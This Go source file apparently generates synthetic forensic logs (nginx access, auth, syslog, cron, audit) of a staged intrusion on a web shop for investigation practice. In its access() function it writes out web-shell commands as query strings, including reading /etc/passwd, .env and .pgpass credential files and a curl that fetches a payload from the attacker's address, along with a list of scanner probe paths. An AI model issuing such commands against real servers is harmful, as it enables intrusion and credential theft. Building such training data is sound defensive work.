package evidence

import (
	"fmt"
	"strconv"
	"time"
)

// What is hidden on the web host, in the order in which it happened.
var webFindings = []string{"recon", "entry", "shell", "credential", "login", "malware", "persistence", "exfil"} //nolint:gochecknoglobals // a table

const (
	webRecon = iota + 1
	webEntry
	webShell
	webCredential
	webLogin
	webMalware
	webPersistence
	webExfil
)

// Kinds of lines of the access log.
const (
	hitPage = iota
	hitAsset
	hitShop
	hitUpload
	hitCrawler
	hitProbe
	hitHealth
	hitSaid // text is the rest of the line, as the attack wrote it
)

// webStory is the plan of the intrusion, as moments before the alert.
type webStory struct {
	host, attacker, account, drop string
	begin                         time.Time // of the day that the logs cover
	end                           time.Time
	recon, entry, login, theft    time.Time
}

func newWebStory(p Params, d *dice) webStory {
	s := webStory{
		host: p.Host, attacker: p.get("attacker", "203.0.113.66"), account: p.get("account", "deploy"), drop: d.hex(8) + ".phtml",
		begin: p.When.Add(-36 * time.Hour), end: p.When.Add(10 * time.Minute),
	}
	s.recon = p.When.Add(-6*time.Hour - d.within(30*time.Minute))
	s.entry = p.When.Add(-4*time.Hour - d.within(40*time.Minute))
	s.login = s.entry.Add(50*time.Minute + d.within(20*time.Minute))
	s.theft = s.login.Add(40*time.Minute + d.within(30*time.Minute))
	return s
}

// webHost is a shop behind nginx: people, crawlers, scanners, and one who found
// that the picture upload takes scripts.
func webHost(p Params) []File {
	s := newWebStory(p, Dice(p.Seed, p.Set+" story"))
	n := p.Events
	auth, sys, cron, audit := n*8/100, n*7/100, n*2/100, n*5/100
	files := []File{
		{Name: "access.log", Source: "/var/log/nginx/access.log", lines: s.access(Dice(p.Seed, p.Set+" access")), write: s.writeAccess, seed: Dice(p.Seed, p.Set+" access text")},
		{Name: "auth.log", Source: "/var/log/auth.log", lines: s.auth(Dice(p.Seed, p.Set+" auth"), auth), write: s.writeSyslog, seed: Dice(p.Seed, p.Set+" auth text")},
		{Name: "syslog", Source: "/var/log/syslog", lines: s.system(Dice(p.Seed, p.Set+" syslog"), sys), write: s.writeSyslog, seed: Dice(p.Seed, p.Set+" syslog text")},
		{Name: "cron.log", Source: "/var/log/cron.log", lines: s.cron(Dice(p.Seed, p.Set+" cron"), cron), write: s.writeSyslog, seed: Dice(p.Seed, p.Set+" cron text")},
		{Name: "audit.log", Source: "/var/log/audit/audit.log", Parser: "audit", lines: s.audit(Dice(p.Seed, p.Set+" audit"), audit), write: s.writeAudit, seed: Dice(p.Seed, p.Set+" audit text")},
	}
	rest := n
	for _, f := range files {
		rest -= len(f.lines)
	}
	files[0].lines = s.visitors(Dice(p.Seed, p.Set+" visitors"), files[0].lines, rest)
	return files
}

// access is the attack as the web server saw it.
func (s webStory) access(d *dice) []line {
	var out []line
	say := func(at time.Time, finding uint8, method, path string, status, bytes int, agent string) {
		out = append(out, line{at: at, kind: hitSaid, finding: finding, text: fmt.Sprintf("%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"-\" %q\n",
			s.attacker, at.UTC().Format("02/Jan/2006:15:04:05 -0700"), method, path, status, bytes, agent)})
	}
	const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"
	at := s.recon
	for _, path := range []string{"/robots.txt", "/shop/", "/account/login", "/account/profile", "/account/avatar", "/uploads/", "/uploads/avatars/", "/.git/HEAD", "/composer.json", "/account/avatar?format=php"} {
		status := map[string]int{"/uploads/": 403, "/uploads/avatars/": 403, "/.git/HEAD": 404, "/composer.json": 404}[path]
		if status == 0 {
			status = 200
		}
		say(at, webRecon, "GET", path, status, d.between(150, 9000), browser)
		at = at.Add(time.Duration(d.between(4, 95)) * time.Second)
	}
	at = s.entry
	for _, name := range []string{"me.php", "me.php.png", s.drop} { // the third one is taken
		status := 415
		if name == s.drop {
			status = 201
		}
		say(at, webEntry, "POST", "/account/avatar?name="+name, status, d.between(60, 300), browser)
		at = at.Add(time.Duration(d.between(20, 140)) * time.Second)
	}
	for _, c := range []string{"id", "uname+-a", "pwd", "ls+-la+/var/www", "cat+/etc/passwd", "ss+-tlnp", "ls+-la+/home", "cat+/var/www/shop/.env", "cat+/home/" + s.account + "/.pgpass", "curl+-so+/tmp/.x/kworkerds+http://" + s.attacker + ":8000/k"} {
		finding := uint8(webShell)
		if c == "cat+/var/www/shop/.env" || c == "cat+/home/"+s.account+"/.pgpass" {
			finding = webCredential
		}
		say(at, finding, "GET", "/uploads/avatars/"+s.drop+"?c="+c, 200, d.between(40, 2600), "curl/7.88.1")
		at = at.Add(time.Duration(d.between(15, 240)) * time.Second)
	}
	at = s.theft
	for i := range 4 {
		say(at, webExfil, "GET", "/uploads/avatars/c"+strconv.Itoa(i)+".tgz", 200, d.between(48, 92)<<20, "curl/7.88.1")
		at = at.Add(time.Duration(d.between(30, 90)) * time.Second)
	}
	return out
}

// visitors fills the access log with everybody else.
func (s webStory) visitors(d *dice, out []line, n int) []line {
	span := s.end.Sub(s.begin)
	every := 30 * time.Second // the balancer looks whether it is alive
	for at := s.begin; n > 0 && at.Before(s.end); at = at.Add(every) {
		if n < 2000 && !d.chance(8) {
			continue
		}
		out = append(out, line{at: at.Add(d.within(2 * time.Second)), kind: hitHealth, who: d.small(2)})
		n--
	}
	for n > 0 {
		switch roll := d.N(100); {
		case roll < 58: // a visit: a page, what it needs, a few more pages
			who, at := d.small(4000), busy(d, s.begin, s.end)
			for range d.between(1, 6) {
				out = append(out, line{at: at, kind: hitPage, who: who, what: d.small(400)})
				n--
				for range d.between(1, 5) {
					out = append(out, line{at: at.Add(d.within(2 * time.Second)), kind: hitAsset, who: who, what: d.small(24)})
					n--
				}
				if d.chance(5) {
					out = append(out, line{at: at.Add(d.within(20 * time.Second)), kind: hitShop, who: who, what: d.small(5)})
					n--
				}
				if d.chance(60) { // people do change their picture
					out = append(out, line{at: at.Add(d.within(30 * time.Second)), kind: hitUpload, who: who, what: d.small(3)})
					n--
				}
				at = at.Add(5*time.Second + d.within(90*time.Second))
			}
		case roll < 78: // a crawler goes through the catalogue
			who, at := d.small(40), s.begin.Add(d.within(span))
			for range d.between(3, 25) {
				out = append(out, line{at: at, kind: hitCrawler, who: who, what: d.small(400)})
				n--
				at = at.Add(time.Second + d.within(20*time.Second))
			}
		default: // a scanner tries its list
			who, at := d.small(300), s.begin.Add(d.within(span))
			for range d.between(2, 40) {
				out = append(out, line{at: at, kind: hitProbe, who: who, what: d.small(64)})
				n--
				at = at.Add(d.within(4 * time.Second))
			}
		}
	}
	return out[:len(out)+n] // the last visit was cut short
}

var (
	webAgents = []string{ //nolint:gochecknoglobals // a table
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
	}
	webCrawlers = []string{"Searchbird/2.1 (+https://search.example/bot)", "PriceCompare/4 (+https://prices.example/about)", "ArchiveWalker/1.0", "LinkPreview/3.2"} //nolint:gochecknoglobals // a table
	webProbes   = []string{                                                                                                                                          //nolint:gochecknoglobals // a table
		"/wp-login.php", "/xmlrpc.php", "/.env", "/admin/", "/phpmyadmin/index.php", "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/health",
		"/.git/config", "/server-status", "/solr/admin/info/system", "/boaform/admin/formLogin", "/HNAP1", "/uploads/shell.php", "/backup.zip", "/old/",
	}
	webShopDoes = []string{"/cart/add", "/cart/checkout", "/account/login", "/account/logout", "/api/search"} //nolint:gochecknoglobals // a table
)

// visitor is the address of an ordinary one. TEST-NET-2 and the benchmark range
// stand for the world.
func visitor(who uint32) string {
	return fmt.Sprintf("198.%d.%d.%d", 18+who%2, who/200%250+1, who%250+2)
}

func (s webStory) writeAccess(d *dice, l line, b []byte) []byte {
	if l.kind == hitSaid {
		return append(b, l.text...)
	}
	from, method, path, status, size, agent, ref := visitor(l.who), "GET", "/", 200, d.between(900, 48000), webAgents[int(l.who)%len(webAgents)], "-"
	switch l.kind {
	case hitPage:
		path, ref = fmt.Sprintf("/shop/item/%d", 1000+l.what), "https://shop.acme.example/shop/"
		if d.chance(90) {
			status, size = 404, 1532
		}
	case hitAsset:
		path, ref = fmt.Sprintf("/assets/%02x.%s", l.what, [3]string{"css", "js", "webp"}[l.what%3]), "https://shop.acme.example/shop/"
		if d.chance(3) {
			status, size = 304, 0
		}
	case hitShop:
		method, path, status = "POST", webShopDoes[l.what], 302
		if path == "/account/login" && d.chance(6) {
			status = 401
		}
	case hitUpload:
		method, path, status, size = "POST", fmt.Sprintf("/account/avatar?name=img_%d.%s", d.N(9999), [3]string{"jpg", "png", "webp"}[l.what]), 201, d.between(60, 300)
	case hitCrawler:
		from, agent, path = fmt.Sprintf("192.0.2.%d", l.who+10), webCrawlers[int(l.who)%len(webCrawlers)], fmt.Sprintf("/shop/item/%d", 1000+l.what)
	case hitProbe:
		from, agent, path, status, size = fmt.Sprintf("198.51.100.%d", l.who%250+2), "Mozilla/5.0 zgrab/0.x", webProbes[int(l.what)%len(webProbes)], 404, 153
	case hitHealth:
		from, agent, path, size = fmt.Sprintf("10.0.0.%d", l.who+4), "balancer/1.9", "/healthz", 2
	}
	b = append(b, from...)
	b = append(b, " - - ["...)
	b = l.at.UTC().AppendFormat(b, "02/Jan/2006:15:04:05 -0700")
	b = append(b, "] \""...)
	b = append(b, method...)
	b = append(b, ' ')
	b = append(b, path...)
	b = append(b, " HTTP/1.1\" "...)
	b = strconv.AppendInt(b, int64(status), 10)
	b = append(b, ' ')
	b = strconv.AppendInt(b, int64(size), 10)
	b = append(b, " \""...)
	b = append(b, ref...)
	b = append(b, "\" \""...)
	b = append(b, agent...)
	return append(b, "\"\n"...)
}
